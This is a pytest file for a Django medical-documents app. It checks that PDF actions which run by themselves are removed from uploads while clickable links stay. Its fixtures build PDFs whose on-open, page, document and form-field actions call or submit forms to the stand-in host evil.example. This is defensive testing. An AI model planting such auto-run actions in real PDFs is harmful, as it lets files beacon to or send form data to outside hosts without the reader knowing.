"""Actions that run by themselves (on open, on page or field events) are removed before we keep
a PDF, whatever they do: call a web address, submit a form, go to a page. Links a reader clicks
stay."""

from __future__ import annotations

import io
from typing import Any

import pikepdf
import pytest
from django.test import Client

from consilium.cases.models import Case
from consilium.documents.models import Document
from consilium.documents.tests.conftest import stored_files, text_pdf, upload


def uri() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/t"))


def submit() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/f"))


def built(change: Any) -> bytes:
    pdf = pikepdf.open(io.BytesIO(text_pdf("Haemoglobin 11.2 g/dL")))
    change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def open_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = uri()


def open_submit(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = submit()


def document_events(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=uri(), WP=submit())


def page_events(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pdf.make_indirect(uri()), C=submit())


def chained_on_open(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]), Next=uri()
    )


def field_events(pdf: pikepdf.Pdf) -> None:
    widget = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
        T=pikepdf.String("name"), Rect=pikepdf.Array([0, 0, 10, 10]),
        AA=pikepdf.Dictionary(Fo=submit(), K=uri()),
    ))
    pdf.pages[0].obj.Annots = pikepdf.Array([widget])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))


KINDS = {"uri on open": open_uri, "submit form on open": open_submit,
         "document events": document_events, "page events": page_events,
         "an action chained after go-to on open": chained_on_open, "field events": field_events}


def stored_pdf(client: Client) -> pikepdf.Pdf:
    response = client.get(f"/documents/{Document.objects.get().public_id}/download/")
    return pikepdf.open(io.BytesIO(b"".join(response.streaming_content)))


def actions_left(pdf: pikepdf.Pdf) -> list[str]:
    found = []
    if "/OpenAction" in pdf.Root:
        found.append("/OpenAction")
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Stream):
            obj = obj.stream_dict
        if isinstance(obj, pikepdf.Dictionary) and "/AA" in obj:
            found.append("/AA")
    return found


@pytest.mark.parametrize("kind", KINDS)
def test_an_action_that_runs_by_itself_is_removed_before_the_pdf_is_kept(
    kind: str, client: Client, draft_case: Case, settings: Any
) -> None:
    original = built(KINDS[kind])
    assert b"evil.example" in original
    client.force_login(draft_case.patient.holder)
    response = upload(client, draft_case, ("report.pdf", original), json=True)
    assert response.status_code == 200, response.content
    with stored_pdf(client) as pdf:
        assert actions_left(pdf) == []
        assert len(pdf.pages) == 1
        assert b"Haemoglobin" in pdf.pages[0].Contents.read_bytes()
    assert len(stored_files(settings)) == 1, "the armed original is not kept"
    document = Document.objects.get()
    assert document.uploaded_size == len(original)


def test_a_link_the_reader_clicks_is_kept(client: Client, draft_case: Case) -> None:
    def link(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 10, 10]),
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://lab.example")),
        ))])

    client.force_login(draft_case.patient.holder)
    upload(client, draft_case, ("report.pdf", built(link)), json=True)
    with stored_pdf(client) as pdf:
        assert str(pdf.pages[0].Annots[0].A.URI) == "https://lab.example"
